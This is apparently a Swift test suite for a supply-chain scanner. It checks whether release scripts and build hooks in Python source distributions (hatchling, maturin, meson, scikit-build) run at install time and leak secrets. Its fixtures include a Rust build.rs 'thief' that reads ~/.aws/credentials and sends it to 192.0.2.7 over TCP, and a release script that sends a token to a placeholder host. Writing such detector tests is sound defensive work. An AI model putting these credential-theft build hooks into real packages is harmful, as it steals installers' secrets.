import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("A script beside pyproject.toml")
struct ReleaseScriptTests {
    /// By which the author of a project publishes it.
    private static let release = """
        import os, subprocess, urllib.request
        def publish(version):
            request = urllib.request.Request("https://forge.example.invalid/releases")
            request.add_header("Authorization", "Bearer " + os.environ["FORGE_TOKEN"])
            urllib.request.urlopen(request, data=version.encode())
            subprocess.check_call(["git", "push", "--tags", "git@forge.example.invalid:a/b.git"])
        """

    @Test(
        "is the author's own where nothing tells the build to run it",
        arguments: ["hatchling.build", "maturin", "mesonpy", "scikit_build_core.build", "pdm.backend", "uv_build"]
    )
    func unnamed(backend: String) {
        let project = Self.project(backend, "[tool.sdist-check]\nonly = [\"release.py\"]")
        let report = Self.report(["pyproject.toml": project, "release.py": Self.release])
        #expect(report.facts(.chainPropagation).isEmpty)
        #expect(report.facts(.chainTokenUse, .install).isEmpty)
    }

    @Test("runs where a plug-in may run it, or nobody knows the back end")
    func plugIn() {
        for project in [
            Self.project("hatchling.build", requires: ["hatchling", "hatch-own"]), Self.project("own.build"),
        ] {
            let report = Self.report(["pyproject.toml": project, "release.py": BuildAttacks.theft])
            #expect(!report.facts(.chainExfiltration, .install).isEmpty)
        }
    }

    @Test("is looked up in what names it, however many there are of both")
    func many() {
        var files = ["pyproject.toml": Self.project("scikit_build_core.build")]
        files["CMakeLists.txt"] = String(repeating: "# words that name nothing\n", count: 20_000)
        for number in 0..<400 { files["m\(number).py"] = "x = 1\n" }
        let report = Self.report(files)
        #expect(!report.hooks.contains { $0.command.hasSuffix(".py") })
    }

    @Test(
        "is named as a word: by its file, or as a module",
        arguments: [
            ("python ./tools/release.py --now", true), ("Run release.py.", true), ("release", true),
            ("release:main", true), ("release.main", true), ("own-release.py", false), ("releases", false),
            ("a release:main", false),
        ]
    )
    func mentioned(_ text: String, _ isNamed: Bool) {
        var mentions = ModuleMentions()
        mentions.add(text)
        #expect(mentions.hold("release.py") == isNamed)
        // Where it ends can't be told.
        #expect(mentions.hold("a b.py"))
    }

    @Test("that pushes without a secret of its own does not spread, where it is only possible that it runs")
    func shortcut() {
        let push = "import subprocess\nsubprocess.check_call(['git', 'push', 'git@forge.example.invalid:a/b'])\n"
        let report = Self.report(["pyproject.toml": Self.project("own.build"), "release.py": push])
        #expect(report.denied.isEmpty)
    }

    @Test(
        "runs where the back end's table, or a build definition, names it",
        arguments: [
            ("hatchling.build", "[tool.hatch.build.hooks.own]\nscript = \"release.py\"", "x", ""),
            ("pdm.backend", "[tool.pdm.own]\nhook = \"release:run\"", "x", ""),
            ("maturin", "", "build.rs", "fn main() { Command::new(python()).arg(\"release.py\").spawn(); }"),
            ("maturin", "", "src/core/build.rs", "fn main() { run(tool(), \"../../release.py\"); }"),
            ("maturin", "", ".cargo/config.toml", "[build]\nrustc-wrapper = \"release.py\"\n"),
            ("mesonpy", "", "lib/meson.build", "s = files('../release.py')\nrun_command(python, s)\n"),
            ("scikit_build_core.build", "", "CMakeLists.txt", "set(S release.py)\nexecute_process(COMMAND ${P} ${S})"),
        ]
    )
    func named(_ backend: String, _ tables: String, _ path: String, _ text: String) {
        let project = Self.project(backend, tables)
        let report = Self.report(["pyproject.toml": project, "release.py": BuildAttacks.theft, path: text])
        #expect(!report.facts(.chainExfiltration, .install).isEmpty)
    }

    @Test(
        "runs where a build definition runs what is not known, or names it as Python does",
        arguments: [
            ("scikit_build_core.build", "CMakeLists.txt", "execute_process(COMMAND ${Python_EXECUTABLE} -m release)"),
            ("scikit_build_core.build", "CMakeLists.txt", "execute_process(COMMAND ${P} -c \"import release\")"),
            ("scikit_build_core.build", "CMakeLists.txt", "set(N release)\nexecute_process(COMMAND ${P} ${D}/${N}.py)"),
            (
                "scikit_build_core.build", "CMakeLists.txt",
                "execute_process(COMMAND ${CMAKE_COMMAND} -E env A=1 ${P} ${N}.py)"
            ),
            ("mesonpy", "meson.build", "py = import('python').find_installation()\nrun_command(py, '-m', 'release')\n"),
            (
                "mesonpy", "meson.build",
                "py = import('python').find_installation()\nrun_command(py, '-c', 'import release')\n"
            ),
            ("mesonpy", "meson.build", "py = find_program('python3')\nrun_command(py, 'release' + '.py')\n"),
            ("mesonpy", "meson.build", "run_command(py, '@0@.py'.format('release'))\n"),
            ("mesonpy", "meson.build", "run_command('python3', get_option('gen'))\n"),
            ("mesonpy", "meson.build", "foreach s : scripts\ncustom_target('a', command: [py, s])\nendforeach\n"),
            ("mesonpy", "a/b/c/d/e/f/g/meson.build", "run_command('python3', '../../../../../../../release.py')\n"),
            (
                "maturin", "build.rs",
                "fn main() { let n = name(); C::new(\"python3\").arg(format!(\"{}.py\", n)).status(); }"
            ),
            ("maturin", "build.rs", "fn main() { let mut c = C::new(\"python3\"); c.arg(n); c.status(); }"),
        ]
    )
    func unknown(_ backend: String, _ path: String, _ text: String) {
        let report = Self.report([
            "pyproject.toml": Self.project(backend), "release.py": BuildAttacks.theft, path: text,
        ])
        #expect(!report.facts(.chainExfiltration, .install).isEmpty)
    }

    @Test(
        "is not run by a definition that runs what it names, nor by one that runs programs of the machine",
        arguments: [
            (
                "scikit_build_core.build", "CMakeLists.txt",
                "execute_process(COMMAND ${Python_EXECUTABLE} ${D}/tools/gen.py ${A})"
            ),
            ("scikit_build_core.build", "CMakeLists.txt", "execute_process(COMMAND ${GIT_EXECUTABLE} rev-parse ${A})"),
            (
                "mesonpy", "meson.build",
                "py = find_program('python3')\nrun_command(py, files('tools/gen.py'), output)\n"
            ),
            (
                "mesonpy", "meson.build",
                "cc = find_program('cython')\ncustom_target('a', command: [cc, '@INPUT@', x])\n"
            ),
            (
                "maturin", "build.rs",
                "fn main() { Command::new(&python).env(\"A\", a).arg(\"tools/gen.py\").output(); }"
            ),
        ]
    )
    func knownProgram(_ backend: String, _ path: String, _ text: String) {
        let report = Self.report([
            "pyproject.toml": Self.project(backend), "release.py": BuildAttacks.theft, "tools/gen.py": "x = 1\n",
            path: text,
        ])
        #expect(report.facts(.chainExfiltration, .install).isEmpty)
    }

    @Test("in Rust is read for what it reaches: a thief that a build compiles and runs")
    func rust() {
        let theft = """
            use std::net::TcpStream;
            fn main() {
                let text = std::fs::read(home().join(".aws/credentials")).unwrap();
                TcpStream::connect("192.0.2.7:443").unwrap().write_all(&text).unwrap();
            }
            """
        for path in ["build.rs", "rust/core/build.rs"] {
            let report = Self.report(["pyproject.toml": Self.project("maturin"), path: theft])
            #expect(report.facts(.chainExfiltration, .install).count == 1, "\(path)")
        }
        let honest = """
            fn main() {
                println!("cargo:rerun-if-changed=build.rs");
                let version = std::env::var("DEP_LIB_VERSION").unwrap();
                std::process::Command::new(&python).arg("../gen/build_it.py").output().unwrap();
            }
            """
        let report = Self.report(["pyproject.toml": Self.project("maturin"), "rust/core/build.rs": honest])
        #expect(report.denied.isEmpty)
    }

    private static func project(_ backend: String, _ tables: String = "", requires: [String] = []) -> String {
        let list = requires.map { "\"\($0)\"" }.joined(separator: ", ")
        return "[build-system]\nrequires = [\(list)]\nbuild-backend = \"\(backend)\"\n\(tables)\n"
    }

    private static func report(_ files: [String: String]) -> Report {
        Sample.report(Sample.sdist(files), "sample-1.0.tar.gz")
    }
}
